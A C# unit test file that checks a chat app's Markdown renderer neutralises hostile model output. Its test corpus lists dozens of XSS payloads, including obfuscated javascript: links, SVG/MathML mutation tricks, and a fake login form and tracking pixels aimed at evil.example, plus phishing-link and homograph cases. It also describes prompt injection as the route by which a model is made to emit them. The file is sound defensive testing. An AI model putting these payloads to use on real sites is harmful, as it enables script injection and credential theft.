using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using SecureAiChat.Core.Chat.Rendering;

namespace SecureAiChat.Tests.Unit.Chat;

public sealed class ChatMarkdownRendererTests
{
    private static readonly ChatMarkdownRenderer Renderer = new();

    private static readonly HashSet<string> AllowedTags = new(StringComparer.OrdinalIgnoreCase)
    {
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "del", "s", "ins", "mark",
        "sub", "sup", "code", "pre", "kbd", "blockquote", "ul", "ol", "li", "a", "span",
        "table", "thead", "tbody", "tr", "th", "td",
    };

    private static readonly HashSet<string> AllowedAttributes = new(StringComparer.OrdinalIgnoreCase)
    {
        "href", "title", "class", "start", "colspan", "rowspan", "rel", "target",
    };

    /// <summary>Model output an attacker could steer the model into producing (prompt injection via documents, pages...).</summary>
    public static TheoryData<string> HostileOutputs => new()
    {
        // Script tags
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<scr<script>ipt>alert(1)</script>",
        "text before\n\n<script>alert(1)</script>\n\ntext after",
        "<<script>script>alert(1)<</script>/script>",
        "`inline` <script>alert(document.cookie)</script>",
        // Event handlers
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x ONERROR=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\">click</a>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>x</marquee>",
        // javascript:, data:, vbscript: links
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](  javascript:alert(1))",
        "[click](<javascript:alert(1)>)",
        "[click](java\tscript:alert(1))",
        "[click](javascript&#58;alert(1))",
        "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        "[click](&#x6A;avascript:alert(1))",
        "[click](javascript%3Aalert(1))",
        "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](DATA:text/html,<script>alert(1)</script>)",
        "[click](vbscript:msgbox(1))",
        "[click](VBScript:msgbox(1))",
        "[click](\" onmouseover=\"alert(1))",
        "[click](https://ok.example \"title\" onclick=alert(1))",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<javascript:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<data:text/html,alert(1)>",
        // Link reference definitions
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "[x][ref]\n\n[ref]: data:text/html;base64,PHNjcmlwdD4=",
        "[ref]\n\n[ref]: JAVASCRIPT:alert(1) \"t\"",
        // SVG / MathML
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        // Frames, objects, forms
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input name=password><button>Login</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        // Styles
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<p style=\"background-image:url('javascript:alert(1)')\">x</p>",
        "<span style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</span>",
        // Images: never loaded
        "![tracker](https://evil.example/pixel.png)",
        "![](https://evil.example/pixel.png)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[![img](https://evil.example/a.png)](https://evil.example)",
        "![ref][img]\n\n[img]: https://evil.example/b.png",
        "<img src=\"https://evil.example/pixel.png\">",
        // HTML in Markdown constructs
        "# Title <script>alert(1)</script>",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
        "- [ ] <script>alert(1)</script>\n- [x] done",
        "> <iframe src=x></iframe>",
        "**<img src=x onerror=alert(1)>**",
        "```html\n<script>alert(1)</script>\n```",
        "```\" onmouseover=\"alert(1)\n code\n```",
        "```js onclick=alert(1)\nx\n```",
        "<!-- <script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        // Markdig extension syntax that would emit attributes if enabled
        "[x](https://ok.example){onclick=alert(1)}",
        "# Heading {#id onclick=alert(1)}",
        "![video](https://www.youtube.com/watch?v=xyz)",
        // Autolinks
        "www.evil.example/<script>alert(1)</script>",
        "https://ok.example/\"onmouseover=\"alert(1)",
    };

    [Theory]
    [MemberData(nameof(HostileOutputs))]
    public void Renderer_output_contains_no_active_content(string markdown)
    {
        var html = Renderer.Render(markdown);

        AssertInert(html);
    }

    [Fact]
    public void Hostile_corpus_has_at_least_fifty_cases()
    {
        Assert.True(HostileOutputs.Count >= 50);
    }

    [Fact]
    public void Renderer_strips_script_tags_but_keeps_them_visible_as_text()
    {
        var html = Renderer.Render("Look: <script>alert(1)</script>");

        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;script&gt;", html);
    }

    [Fact]
    public void Renderer_turns_markdown_image_into_link_with_alt_text()
    {
        var html = Renderer.Render("![a cat](https://img.example/cat.png)");

        var anchor = Assert.Single(Parse(html).QuerySelectorAll("a"));
        Assert.Equal("https://img.example/cat.png", anchor.GetAttribute("href"));
        Assert.Equal("a cat", anchor.TextContent);
        Assert.Empty(Parse(html).QuerySelectorAll("img"));
    }

    [Fact]
    public void Renderer_turns_image_without_alt_into_link_showing_url()
    {
        var html = Renderer.Render("![](https://img.example/cat.png)");

        var anchor = Assert.Single(Parse(html).QuerySelectorAll("a"));
        Assert.Equal("https://img.example/cat.png", anchor.TextContent);
    }

    [Fact]
    public void Renderer_drops_href_of_javascript_link_but_keeps_text()
    {
        var html = Renderer.Render("[click me](javascript:alert(1))");

        Assert.Contains("click me", Parse(html).Body!.TextContent);
        Assert.DoesNotContain("javascript", html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Renderer_links_get_rel_and_target()
    {
        var html = Renderer.Render("See [docs](https://learn.microsoft.com/dotnet/) and <https://example.com>.");

        var anchors = Parse(html).QuerySelectorAll("a");
        Assert.Equal(2, anchors.Length);
        Assert.All(anchors, a =>
        {
            Assert.Equal("noopener noreferrer nofollow", a.GetAttribute("rel"));
            Assert.Equal("_blank", a.GetAttribute("target"));
        });
    }

    [Theory]
    [InlineData("[x](/account/delete)")]
    [InlineData("[x](../admin)")]
    [InlineData("[x](//evil.example/path)")]
    public void Renderer_drops_relative_links_that_would_point_into_the_app(string markdown)
    {
        var html = Renderer.Render(markdown);

        Assert.Null(Parse(html).QuerySelector("a")!.GetAttribute("href"));
    }

    [Fact]
    public void Renderer_keeps_mailto_links()
    {
        var html = Renderer.Render("[mail](mailto:someone@example.com)");

        Assert.Equal("mailto:someone@example.com", Parse(html).QuerySelector("a")!.GetAttribute("href"));
    }

    [Fact]
    public void Renderer_autolinks_bare_urls()
    {
        var html = Renderer.Render("Visit https://example.com/path now");

        Assert.Equal("https://example.com/path", Parse(html).QuerySelector("a")!.GetAttribute("href"));
    }

    [Fact]
    public void Renderer_renders_pipe_tables()
    {
        var html = Renderer.Render("| Name | Qty |\n|:-----|----:|\n| Apple | 3 |\n| Pear | 5 |");

        var document = Parse(html);
        Assert.NotNull(document.QuerySelector("table > thead > tr > th"));
        Assert.Equal(2, document.QuerySelectorAll("tbody tr").Length);
        Assert.Equal("Pear", document.QuerySelectorAll("tbody tr")[1].QuerySelector("td")!.TextContent);
    }

    [Fact]
    public void Renderer_renders_lists_and_emphasis()
    {
        var html = Renderer.Render("1. **bold** item\n2. *em* item\n3. ~~gone~~\n\n- a\n- b");

        var document = Parse(html);
        Assert.Equal(3, document.QuerySelectorAll("ol > li").Length);
        Assert.Equal(2, document.QuerySelectorAll("ul > li").Length);
        Assert.NotNull(document.QuerySelector("strong"));
        Assert.NotNull(document.QuerySelector("em"));
        Assert.NotNull(document.QuerySelector("del"));
    }

    [Fact]
    public void Renderer_renders_task_lists_as_glyphs_not_inputs()
    {
        var html = Renderer.Render("- [x] done\n- [ ] todo");

        Assert.Empty(Parse(html).QuerySelectorAll("input"));
        Assert.Contains("☑", html);
        Assert.Contains("☐", html);
    }

    [Theory]
    [InlineData("csharp", "language-csharp")]
    [InlineData("c++", "language-c++")]
    [InlineData("C#", "language-c#")]
    [InlineData("objective-c", "language-objective-c")]
    public void Renderer_keeps_language_class_on_code_blocks(string info, string expectedClass)
    {
        var html = Renderer.Render($"```{info}\nvar x = 1;\n```");

        var code = Parse(html).QuerySelector("pre > code")!;
        Assert.Equal(expectedClass, code.GetAttribute("class"));
        Assert.Equal("var x = 1;\n", code.TextContent);
    }

    [Theory]
    [InlineData("this-language-name-is-way-too-long")]
    [InlineData("py<thon")]
    [InlineData("x\"onclick")]
    public void Renderer_drops_language_class_not_matching_the_allowlist(string info)
    {
        var html = Renderer.Render($"```{info}\ncode\n```");

        var code = Parse(html).QuerySelector("pre > code")!;
        Assert.Null(code.GetAttribute("class"));
        AssertInert(html);
    }

    [Fact]
    public void Renderer_escapes_html_inside_code_blocks()
    {
        var html = Renderer.Render("```html\n<b onclick=\"x\">hi</b>\n```");

        Assert.Equal("<b onclick=\"x\">hi</b>\n", Parse(html).QuerySelector("code")!.TextContent);
        Assert.Null(Parse(html).QuerySelector("b"));
    }

    [Theory]
    [InlineData("hello")]
    [InlineData("こんにちは")]
    [InlineData("<script>alert(1)</script> `backtick` [x](javascript:y)")]
    public void Renderer_renders_the_demo_reply_with_list_and_code_block(string userText)
    {
        var reply = SecureAiChat.Core.Providers.DemoChatClient.ComposeReply([new Microsoft.Extensions.AI.ChatMessage(Microsoft.Extensions.AI.ChatRole.User, userText)]);

        var html = Renderer.Render(reply);

        var document = Parse(html);
        Assert.True(document.QuerySelectorAll("ul > li").Length >= 3);
        Assert.Equal("language-bash", document.QuerySelector("pre > code")!.GetAttribute("class"));
        AssertInert(html);
    }

    [Fact]
    public void Renderer_returns_empty_for_empty_input()
    {
        Assert.Equal("", Renderer.Render(null));
        Assert.Equal("", Renderer.Render(""));
    }

    [Fact]
    public void Renderer_renders_japanese_text_unchanged()
    {
        var html = Renderer.Render("こんにちは、**世界**。");

        Assert.Equal("こんにちは、世界。", Parse(html).Body!.TextContent.Trim());
    }

    [Fact]
    public void Renderer_renders_every_table_of_a_13_KB_answer()
    {
        var section = """
            ## Section

            Some **bold** text with a [link](https://example.com) and `code`.

            | a | b |
            |---|---|
            | 1 | 2 |

            ```csharp
            Console.WriteLine("hello");
            ```

            - item one
            - item two

            """;
        var markdown = string.Concat(Enumerable.Repeat(section, 60));
        Assert.InRange(markdown.Length, 10_000, 20_000);
        var html = Renderer.Render(markdown);

        // Its speed is a benchmark figure (5c), never a timing assertion here.
        Assert.Equal(60, Parse(html).QuerySelectorAll("table").Length);
    }

    [Fact]
    public async Task Renderer_is_safe_to_use_from_many_threads()
    {
        var inputs = Enumerable.Range(0, 200).Select(i => $"Item {i}: [link](https://example.com/{i}) <script>x</script> ![img](https://e.example/{i}.png)").ToList();

        var outputs = await Task.WhenAll(inputs.Select(input => Task.Run(() => Renderer.Render(input))));

        for (var i = 0; i < inputs.Count; i++)
        {
            Assert.Equal(Renderer.Render(inputs[i]), outputs[i]);
            AssertInert(outputs[i]);
        }
    }

    [Theory]
    [InlineData("[the report](https://example.com/q3/report)", "example.com")]
    [InlineData("[サポート窓口](http://support.example.co.jp:8080/help)", "support.example.co.jp")]
    [InlineData("[mail us](mailto:help@example.org)", "help@example.org")]
    public void A_link_shows_its_destination_domain_after_its_text(string markdown, string domain)
    {
        var document = Parse(Renderer.Render(markdown));

        var anchor = Assert.Single(document.QuerySelectorAll("a"));
        var hint = anchor.NextElementSibling;
        Assert.NotNull(hint);
        Assert.Equal("span", hint.LocalName);
        Assert.Equal(ChatMarkdownRenderer.LinkDomainClass, hint.GetAttribute("class"));
        Assert.Equal($" ({domain})", hint.TextContent);
    }

    [Theory]
    [InlineData("[https://bank.example/login](https://evil.example/login)", "https://evil.example/login")]
    [InlineData("[bank.example](https://evil.example/)", "https://evil.example/")]
    [InlineData("[www.bank.example/login](https://evil.example/x)", "https://evil.example/x")]
    [InlineData("[ceo@bank.example](mailto:thief@evil.example)", "thief@evil.example")]
    public void A_link_whose_text_names_another_address_shows_its_real_destination(string markdown, string shown)
    {
        var anchor = Assert.Single(Parse(Renderer.Render(markdown)).QuerySelectorAll("a"));

        Assert.Equal(shown, anchor.TextContent);
        Assert.DoesNotContain("bank.example", anchor.ParentElement!.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public void A_look_alike_domain_in_another_script_is_shown_in_punycode()
    {
        // "аpple.com" with a Cyrillic а.
        var document = Parse(Renderer.Render("[Apple ID](https://\u0430pple.com/signin)"));

        Assert.Equal(" (xn--pple-43d.com)", document.QuerySelector("." + ChatMarkdownRenderer.LinkDomainClass)!.TextContent);
    }

    [Theory]
    [InlineData("https://example.com/path")]
    [InlineData("[https://example.com/path](https://example.com/path)")]
    [InlineData("[example.com](https://example.com/)")]
    public void A_link_that_already_shows_its_destination_gets_no_hint(string markdown)
    {
        var document = Parse(Renderer.Render(markdown));

        Assert.Single(document.QuerySelectorAll("a"));
        Assert.Empty(document.QuerySelectorAll("." + ChatMarkdownRenderer.LinkDomainClass));
    }

    [Fact]
    public void Model_text_cannot_forge_a_domain_hint()
    {
        var html = Renderer.Render("[pay](https://evil.example)<span class=\"link-domain\">(bank.example)</span>");

        var hints = Parse(html).QuerySelectorAll("span");
        Assert.Equal(" (evil.example)", Assert.Single(hints).TextContent);
    }

    [Fact]
    public void Code_blocks_are_wrapped_with_a_language_header_and_a_copy_button_in_the_dom()
    {
        var html = Renderer.Render("```python\nprint('</code></pre><b>x</b>')\n```\n\ntext\n\n```\nplain\n```");

        var decorated = ChatMarkdownRenderer.DecorateCodeBlocks(html, "<i>コピー</i>");

        var document = Parse(decorated);
        var blocks = document.QuerySelectorAll("div.code-block");
        Assert.Equal(2, blocks.Length);
        Assert.Equal(["python", "text"], blocks.Select(b => b.QuerySelector(".code-head > .code-lang")!.TextContent));
        Assert.All(blocks, b => Assert.Equal("<i>コピー</i>", b.QuerySelector(".code-head > button.code-copy")!.TextContent));
        Assert.All(blocks, b => Assert.Equal("pre", b.Children[1].LocalName));
        Assert.Equal("print('</code></pre><b>x</b>')\n", blocks[0].QuerySelector("pre > code")!.TextContent);
        Assert.Empty(document.QuerySelectorAll("i, b"));
        Assert.Equal("text", document.QuerySelector("body > p")!.TextContent);
    }

    [Fact]
    public void Decorating_twice_does_not_add_a_second_header()
    {
        var once = ChatMarkdownRenderer.DecorateCodeBlocks(Renderer.Render("```js\nx()\n```"), "Copy");

        var twice = ChatMarkdownRenderer.DecorateCodeBlocks(once, "Copy");

        Assert.Single(Parse(twice).QuerySelectorAll(".code-head"));
        Assert.Equal(once, twice);
    }

    [Fact]
    public void Html_without_code_blocks_is_returned_unchanged()
    {
        var html = Renderer.Render("**bold** and `inline code`");

        Assert.Same(html, ChatMarkdownRenderer.DecorateCodeBlocks(html, "Copy"));
    }

    private static IDocument Parse(string html) => new HtmlParser().ParseDocument($"<html><body>{html}</body></html>");

    /// <summary>Fails when the HTML could run script, load a remote resource or restyle the page.</summary>
    private static void AssertInert(string html)
    {
        var body = Parse(html).Body!;
        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.True(AllowedTags.Contains(element.LocalName), $"tag <{element.LocalName}> in: {html}");
            foreach (var attribute in element.Attributes)
            {
                Assert.True(AllowedAttributes.Contains(attribute.Name), $"attribute {attribute.Name} on <{element.LocalName}> in: {html}");
            }

            if (element.GetAttribute("href") is { } href)
            {
                var trimmed = href.Trim();
                Assert.True(
                    trimmed.StartsWith("http://", StringComparison.OrdinalIgnoreCase)
                    || trimmed.StartsWith("https://", StringComparison.OrdinalIgnoreCase)
                    || trimmed.StartsWith("mailto:", StringComparison.OrdinalIgnoreCase),
                    $"href '{href}' in: {html}");
            }

            if (element.GetAttribute("class") is { } cls && !(element.LocalName == "span" && cls == ChatMarkdownRenderer.LinkDomainClass))
            {
                Assert.Equal("code", element.LocalName);
                Assert.Matches("^language-[a-z0-9+#-]{1,20}$", cls);
            }

            if (element.LocalName == "a")
            {
                Assert.Equal("noopener noreferrer nofollow", element.GetAttribute("rel"));
            }
        }

        // Belt and braces on the raw string: these must never appear unescaped.
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<iframe", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<svg", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<style", html, StringComparison.OrdinalIgnoreCase);
    }
}
